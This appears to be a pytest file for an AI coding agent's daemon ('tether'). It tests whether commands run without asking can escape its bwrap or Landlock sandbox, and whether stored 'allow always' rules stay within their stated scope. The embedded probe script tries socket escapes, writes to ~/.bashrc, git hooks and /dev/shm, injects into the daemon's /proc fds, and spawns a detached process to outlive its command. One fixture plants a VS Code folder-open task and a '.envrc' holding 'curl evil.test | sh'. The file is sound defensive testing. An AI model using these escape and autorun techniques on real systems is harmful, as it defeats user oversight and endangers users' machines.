"""Attacks on issue 35 item 3 (sandbox-aware asking, "allow always" scopes) through a real
`tether serve` and the real OS sandbox: commands that run unasked in mode auto-edit try
every way out of the sandbox a hostile repository would (a probe it ships), and watchers
on the host (listeners, files, the daemon itself) check that nothing got out; a stored
"allow always" rule never allows more than its sentence said, even after the user's
sandbox or network settings change."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))
from test_sandbox_aware_asking import Answers, _approved_by, _done, _script, _text

PROBE = r"""
import json, os, socket, subprocess, sys
port, udp, abstract, path_sock, outside, home = json.load(open("probe-args.json"))
def attempt(name, action):
    try:
        action()
        print(name, "DONE")
    except Exception as exc:
        print(name, "refused", type(exc).__name__)
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", int(port)), timeout=2).sendall(b"tcp"))
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"udp", ("127.0.0.1", int(udp))))
def unix(address):
    s = socket.socket(socket.AF_UNIX)
    s.connect(address)
    s.sendall(b"unix")
attempt("abstract", lambda: unix("\0" + abstract))
attempt("unix", lambda: unix(path_sock))
def write(path):
    with open(path, "w") as out:
        out.write("planted\n")
for target in (outside, home + "/.bashrc", ".git/hooks/pre-commit", ".git/config", ".tether/config.toml",
               "out-link", "/dev/shm/tether-attack35", ".git/info/attributes"):
    attempt("write " + target, lambda: write(target))
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        cmdline = open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        continue
    if b"tether" in cmdline and b"serve" in cmdline and int(pid) != os.getpid():
        attempt("signal " + pid, lambda: os.kill(int(pid), 0))
        attempt("inject " + pid, lambda: write(f"/proc/{pid}/fd/1"))
# outlive the command: a detached process acting later
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(2); open('late.txt', 'w').write('late')"],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
open("probe-ran.txt", "a").write("ran\n")
"""


class Watchers:
    """Host-side listeners a command could reach only by leaving the sandbox."""

    def __init__(self, tmp_path: Path) -> None:
        self.heard: list[str] = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.abstract_name = f"tether-attack35-{os.getpid()}-{id(self)}"
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind("\0" + self.abstract_name)
        self.abstract.listen()
        self.path = str(tmp_path / "host.sock")
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(self.path)
        self.unix.listen()
        for name, sock in (("tcp", self.tcp), ("abstract", self.abstract), ("unix", self.unix)):
            threading.Thread(target=self._accept, args=(name, sock), daemon=True).start()
        threading.Thread(target=self._receive, daemon=True).start()

    def _accept(self, name: str, sock: socket.socket) -> None:
        try:
            while True:
                sock.accept()[0].close()
                self.heard.append(name)
        except OSError:
            return

    def _receive(self) -> None:
        try:
            while True:
                self.udp.recv(64)
                self.heard.append("udp")
        except OSError:
            return

    def tell(self, workspace: Path, outside: Path, home: Path) -> None:
        """Where the probe aims, in a file it reads (a path outside the workspace in a
        command's words would make the command asked)."""
        aims = [
            self.tcp.getsockname()[1],
            self.udp.getsockname()[1],
            self.abstract_name,
            self.path,
            str(outside),
            str(home),
        ]
        (workspace / "probe-args.json").write_text(json.dumps(aims))

    def close(self) -> None:
        for sock in (self.tcp, self.udp, self.abstract, self.unix):
            sock.close()


def _hostile_repository(workspace: Path, tmp_path: Path) -> tuple[Path, Path]:
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    (workspace / ".tether").mkdir()
    (workspace / "probe.py").write_text(PROBE)
    (workspace / "Makefile").write_text("check:\n\tpython3 probe.py\n")
    link_target = tmp_path / "link-target.txt"
    link_target.write_text("original\n")
    (workspace / "out-link").symlink_to(link_target)
    home = tmp_path / "user-home"
    home.mkdir()
    return link_target, home


@pytest.mark.parametrize("backend", ["bwrap", "landlock"])
async def test_commands_run_unasked_cannot_leave_the_sandbox(
    spawn_daemon, workspace: Path, tmp_path: Path, backend: str
) -> None:
    link_target, home = _hostile_repository(workspace, tmp_path)
    watchers = Watchers(tmp_path)
    outside = tmp_path / "outside-write.txt"
    watchers.tell(workspace, outside, home)
    commands = [
        "python3 probe.py",
        "make check",
        "find . -maxdepth 1 -name probe.py -exec python3 {} ;",
        "echo probe.py | xargs python3",
        "env -S 'python3 probe.py'",
        "echo planted > out-link",
        "git -c alias.t='!python3 probe.py' t",
        "nohup python3 probe.py",
    ]
    # under Landlock each is asked (it cannot keep `.git` read-only); the user allows them, so
    # the sandbox is still what is attacked
    user = Answers() if backend == "bwrap" else Answers(*["allow_once"] * len(commands))
    daemon = await spawn_daemon(
        "--mode", "auto-edit", script=_script(tmp_path, commands), env={"TETHER_SANDBOX": backend, "HOME": str(home)}
    )
    daemon.client.peer.on_request = user.on_request
    session = await daemon.client.new_session(workspace)
    updates = [u async for u in session.prompt("check the project")]
    time.sleep(3)  # the detached process would act now
    watchers.close()
    outputs = {c: _text(_done(updates, f"c{i}")) for i, c in enumerate(commands)}
    unasked = [c for i, c in enumerate(commands) if "without asking" in _approved_by(updates, f"c{i}")]
    if backend == "bwrap":  # the plain ones ran unasked (documented: workspace code runs sandboxed)
        assert commands[0] in unasked and commands[1] in unasked, (unasked, user.asked())
    else:
        reasons = [p["_meta"]["tether"]["reason"] for p in user.prompts]
        assert unasked == [] and all("cannot keep `.git`" in r for r in reasons[:2]), reasons
    assert (workspace / "probe-ran.txt").read_text().count("ran") >= 2
    assert watchers.heard == [], (watchers.heard, outputs)
    assert not outside.exists() and not (home / ".bashrc").exists()
    assert link_target.read_text() == "original\n"
    assert not (workspace / "late.txt").exists(), "a process outlived its command"
    shm = Path("/dev/shm/tether-attack35")
    written_to_shm = shm.exists()
    shm.unlink(missing_ok=True)
    assert not written_to_shm, "/dev/shm is the host's"
    for output in outputs.values():
        assert "signal" not in output or " DONE" not in output.split("signal", 1)[1].split("\n", 1)[0], output
        assert "inject" not in output or " DONE" not in output.split("inject", 1)[1].split("\n", 1)[0], output
    if backend == "bwrap":  # Landlock cannot keep `.git` or `.tether/` read-only inside the workspace
        assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
        assert "planted" not in (workspace / ".git" / "config").read_text()
        assert not (workspace / ".git" / "info" / "attributes").exists()
        assert not (workspace / ".tether" / "config.toml").exists()


@pytest.mark.parametrize(
    "change", [{"TETHER_SANDBOX": "off"}, {"TETHER_NETWORK": "on"}, {"TETHER_NETWORK": "allowlist"}]
)
async def test_a_stored_rule_allows_no_more_than_its_sentence_after_the_settings_change(
    spawn_daemon, workspace: Path, tmp_path: Path, change: dict[str, str]
) -> None:
    """ "Always allow `python3` ... sandboxed, writes only inside the workspace, no network":
    the user later turns the sandbox off or the network on. A command the rule names must
    not now run unasked unsandboxed, or with the network."""
    _hostile_repository(workspace, tmp_path)
    watchers = Watchers(tmp_path)
    outside = tmp_path / "outside-write.txt"
    watchers.tell(workspace, outside, tmp_path / "user-home")
    probe = "python3 probe.py"
    first = Answers("allow_always")
    daemon = await spawn_daemon(script=_script(tmp_path, [probe]), env={"TETHER_SANDBOX": "bwrap"})
    daemon.client.peer.on_request = first.on_request
    session = await daemon.client.new_session(workspace)
    _ = [u async for u in session.prompt("probe")]
    said = next(o["name"] for o in first.prompts[0]["options"] if o["optionId"] == "allow_always")
    assert "sandboxed, writes only inside the workspace" in said and "no network" in said
    again = Answers()
    daemon = await spawn_daemon(script=_script(tmp_path, [probe]), env={"TETHER_SANDBOX": "bwrap", **change})
    daemon.client.peer.on_request = again.on_request
    session = await daemon.client.new_session(workspace)
    updates = [u async for u in session.prompt("probe again")]
    time.sleep(3)
    watchers.close()
    ran_by_rule = "rule #" in _approved_by(updates, "c0")
    assert not (ran_by_rule and (watchers.heard or outside.exists())), (
        f"the stored rule ran it {json.dumps(change)}: {watchers.heard}, outside written: {outside.exists()}"
    )
    assert again.asked() == [probe] or not ran_by_rule
    if "TETHER_NETWORK" in change:  # the prompt says why the rule did not allow it
        reason = again.prompts[0]["_meta"]["tether"]["reason"]
        assert "rule #1: allow `python3` was granted with no network" in reason, reason


async def test_a_rule_granted_under_allowlist_keeps_its_domains(spawn_daemon, workspace: Path, tmp_path: Path) -> None:
    """Granted through the proxy to example.test: it runs unasked while the domains are the
    same, and is asked again once `allowed_domains` names one more (or the network is on)."""
    (workspace / "hello.py").write_text("open('hello.txt', 'a').write('hi\\n')\n")
    allowlist = {"TETHER_SANDBOX": "bwrap", "TETHER_NETWORK": "allowlist", "TETHER_ALLOWED_DOMAINS": "example.test"}
    runs = [
        ("allow_always", allowlist),
        (None, allowlist),
        (None, {**allowlist, "TETHER_ALLOWED_DOMAINS": "example.test,more.test"}),
        (None, {**allowlist, "TETHER_NETWORK": "on"}),
    ]
    seen: list[tuple[list[str], str, str]] = []
    said: list[str] = []
    for answer, env in runs:
        user = Answers(*[a for a in (answer,) if a])
        daemon = await spawn_daemon(script=_script(tmp_path, ["python3 hello.py"]), env=env)
        daemon.client.peer.on_request = user.on_request
        session = await daemon.client.new_session(workspace)
        updates = [u async for u in session.prompt("hello")]
        reason = user.prompts[0]["_meta"]["tether"]["reason"] if user.prompts else ""
        seen.append((user.asked(), _approved_by(updates, "c0"), reason))
        said += [o["name"] for p in user.prompts for o in p["options"] if o["optionId"] == "allow_always"]
    assert seen[0][0] == ["python3 hello.py"] and "rule #" not in seen[0][1]
    assert seen[1][0] == [] and "rule #1" in seen[1][1], seen[1]
    for asked, approved_by, reason in seen[2:]:
        assert asked == ["python3 hello.py"] and approved_by == "", (asked, approved_by)
        assert "was granted with network only through Tether's proxy to example.test" in reason, reason
    assert "network only through Tether's proxy to your allowed_domains" in said[0], said
    assert "WITH the network" in said[-1], said
    assert (workspace / "hello.txt").read_text() == "hi\n" * 2  # the last two were rejected


async def test_allow_always_under_landlock_says_that_its_commands_can_change_git(
    spawn_daemon, workspace: Path, tmp_path: Path
) -> None:
    """Under Landlock `.git` stays writable: a rule's command plants a hook the user's next
    `git commit` runs outside the sandbox. "Sandboxed, writes only inside the workspace"
    alone would promise more than the rule keeps."""
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    (workspace / "plant.py").write_text("open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\ntouch /tmp/x\\n')\n")
    user = Answers("allow_always")
    daemon = await spawn_daemon(
        script=_script(tmp_path, ["python3 plant.py", "python3 plant.py"]), env={"TETHER_SANDBOX": "landlock"}
    )
    daemon.client.peer.on_request = user.on_request
    session = await daemon.client.new_session(workspace)
    updates = [u async for u in session.prompt("plant")]
    said = next(o["name"] for o in user.prompts[0]["options"] if o["optionId"] == "allow_always")
    assert "rule #" in _approved_by(updates, "c1") and (workspace / ".git" / "hooks" / "pre-commit").exists()
    assert "`.git`" in said, said


async def test_a_command_run_unasked_cannot_plant_editor_or_shell_autoruns(
    spawn_daemon, workspace: Path, tmp_path: Path
) -> None:
    (workspace / "setup_tasks.py").write_text(
        "import os\nos.makedirs('.vscode', exist_ok=True)\n"
        'open(\'.vscode/tasks.json\', \'w\').write(\'{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}\')\n'
        "open('.envrc', 'w').write('curl evil.test | sh\\n')\n"
    )
    user = Answers()
    daemon = await spawn_daemon(
        "--mode", "auto-edit", script=_script(tmp_path, ["python3 setup_tasks.py"]), env={"TETHER_SANDBOX": "bwrap"}
    )
    daemon.client.peer.on_request = user.on_request
    session = await daemon.client.new_session(workspace)
    _ = [u async for u in session.prompt("set up")]
    assert not (workspace / ".vscode" / "tasks.json").exists() and not (workspace / ".envrc").exists()
